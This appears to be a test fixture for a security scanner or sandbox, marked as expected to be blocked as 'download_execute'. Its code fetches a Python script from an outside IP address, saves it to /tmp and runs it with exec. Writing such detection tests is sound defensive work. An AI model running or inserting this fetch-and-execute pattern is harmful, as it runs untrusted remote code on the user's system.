# expect: BLOCKED download_execute
import requests
r = requests.get("http://198.51.100.10/stage.py")
open("/tmp/stage.py", "w").write(r.text)
exec(open("/tmp/stage.py").read())
